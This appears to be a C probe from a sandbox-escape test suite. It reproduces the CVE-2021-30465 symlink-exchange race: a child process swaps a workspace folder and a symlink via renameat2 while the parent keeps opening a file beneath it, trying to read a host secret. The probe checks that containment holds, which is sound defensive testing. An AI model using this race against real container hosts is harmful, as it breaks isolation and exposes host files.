/* attack: swaps a folder with a symlink out, again and again, while it opens a file below it
   escaped: the open hits the moment and reads a host file
   layer: mount
   control: outside
   source: CVE-2021-30465, RENAME_EXCHANGE */
#include "probe.h"

PROBE() {
  char folder[PATH_MAX], path[PATH_MAX];
  snprintf(folder, sizeof folder, "%s", HostFile());
  *strrchr(folder, '/') = 0;
  mkdir(Workspace("door"), 0700);
  close(open(Workspace("door/file"), O_WRONLY | O_CREAT, 0600));
  unlink(Workspace("out"));
  if (symlink(folder, Workspace("out")) != 0) Cannot("no symlink in the workspace");
  const pid_t child = fork();
  if (child == 0)
    for (;;) syscall(SYS_renameat2, AT_FDCWD, Workspace("door"), AT_FDCWD, Workspace("out"), 2);
  snprintf(path, sizeof path, "%s", Workspace("door/file"));
  char text[64];
  int seen = 0;
  for (const int64_t end = NowMs() + PatienceMs(); NowMs() < end && !seen;) {
    const ssize_t size = ReadText(path, text, sizeof text);
    seen = size > 0 && strstr(text, "host secret") != NULL;
  }
  kill(child, SIGKILL);
  if (seen) Escaped("read a host file");
  MustNotRead(HostFile());
}
